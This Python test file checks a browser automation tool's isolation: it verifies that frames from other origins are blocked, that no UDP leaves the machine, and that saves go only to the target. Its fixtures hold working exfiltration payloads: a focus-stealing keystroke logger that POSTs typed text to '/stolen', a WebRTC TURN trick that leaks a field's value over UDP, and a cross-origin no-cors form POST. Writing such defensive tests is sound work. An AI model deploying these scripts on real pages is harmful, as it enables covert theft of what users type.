"""What a page would load from, or tell, somebody else: frames of other origins, and ways past the gate."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest

from rpa.browser.launch import Browser, Route
from rpa.browser.values import ControlToKey
from rpa.errors import NotSent
from tests.integration.counting_server import Counting, counting
from tests.integration.pages import PAGE, Open, Pages, named
from tests.integration.saving_world import FETCHED, Opening, saved

pytestmark = pytest.mark.asyncio(loop_scope="session")

SECRET = "Example-Secret-Answer"
# It takes the keyboard again and again, as a field of a chat beside the form may.
THIEF = """<input id=field autofocus><script>
setInterval(() => field.focus(), 5);
field.oninput = () => fetch("/stolen", { method: "POST", body: field.value });
</script>"""
# It asks a server by its name and a word of the page's own choice, over UDP, and says when it is done.
CALLING = """<label>Town <input id=town></label><button onclick="call()">Call</button><script>
function call() {
  const ices = [{ urls: "turn:127.0.0.1:%d", username: document.querySelector("#town").value, credential: "x" }];
  const line = new RTCPeerConnection({ iceServers: ices });
  line.onicegatheringstatechange = () => {
    if (line.iceGatheringState === "complete") document.body.insertAdjacentHTML("beforeend", "<h1>Called</h1>");
  };
  line.createDataChannel("x");
  line.createOffer().then((offer) => line.setLocalDescription(offer));
}
</script>"""


@pytest.fixture
def elsewhere() -> Iterator[Counting]:
    """Another origin, which counts what reaches it."""
    with counting() as server:
        yield server


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Another host's UDP port."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as port:
        port.bind(("127.0.0.1", 0))
        port.setblocking(False)
        yield port


async def test_a_frame_of_another_origin(show: Open, elsewhere: Counting) -> None:
    """A frame of another origin is not loaded, so that it cannot take the keyboard while an answer is typed."""
    elsewhere.pages["/frame"] = THIEF
    tab = await show(f"<label>Town <input></label><iframe src='{elsewhere.base}/frame'></iframe>")
    town = await named(tab, "Town")
    await tab.type_text(town.handle, SECRET)
    assert (await named(tab, "Town")).holds == SECRET
    assert elsewhere.arrived == []


async def test_a_frame_that_the_settings_name(browser: Browser, pages: Pages, elsewhere: Counting) -> None:
    """A frame of an origin that belongs to the target is loaded."""
    elsewhere.pages["/frame"] = "<p>Help"
    arrived = elsewhere.when("GET", "/frame")
    tab = await browser.open_tab(pages.base, 5, Route(origins=(elsewhere.base,)))
    await tab.go(pages.show(f"<iframe src='{elsewhere.base}/frame'></iframe>"))
    await arrived.wait()
    await tab.close()


async def test_nothing_leaves_beside_the_gate(show: Open, listener: socket.socket) -> None:
    """A page that calls another host over UDP sends it nothing, whatever the gate lets pass."""
    tab = await show(CALLING % listener.getsockname()[1], seconds=20)
    town = await named(tab, "Town")
    await tab.key([ControlToKey(town.handle, "text", SECRET)])
    await tab.press(PAGE, "Call")
    await tab.wait_for_condition({"called": {"heading": "Called"}}, "calling")
    with pytest.raises(BlockingIOError):
        listener.recv(4096)


async def test_a_save_goes_to_the_target_only(
    server: Counting, opening: Opening, elsewhere: Counting
) -> None:
    """While a save is under way, nothing that changes anything goes to an origin that is not the target's."""
    post = f"'{elsewhere.base}/save/direct', {{method: 'POST', mode: 'no-cors', body: new FormData(event.target)}}"
    server.form("/save/direct", script=FETCHED % (post, "send()"))
    with pytest.raises(NotSent):
        await saved(await opening(server))
    assert elsewhere.posts("/save/direct") == []
